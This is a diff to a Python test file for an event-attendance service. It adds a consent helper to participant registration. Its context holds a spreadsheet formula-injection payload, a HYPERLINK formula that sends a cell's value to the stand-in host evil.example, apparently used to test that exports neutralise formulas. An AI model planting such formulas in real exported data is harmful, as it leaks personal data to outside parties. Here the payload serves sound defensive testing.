@@ -11,6 +11,7 @@ from fastapi.testclient import TestClient
 from openpyxl import load_workbook
 
 from tests.attendance_support import set_participant
+from tests.consent_support import consenting
 from turnout.bootstrap import Turnout
 
 LINK = '=HYPERLINK("http://evil.example/?leak="&A2,"click")'
@@ -18,7 +19,7 @@ FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 
 
 def register(client: TestClient, event_id: str, **person: Any) -> dict[str, Any]:
-    response = client.post(f"/api/v1/events/{event_id}/participants", json=person)
+    response = client.post(f"/api/v1/events/{event_id}/participants", json=consenting(person))
     assert response.status_code == 201, response.text
     body: dict[str, Any] = response.json()
     return body
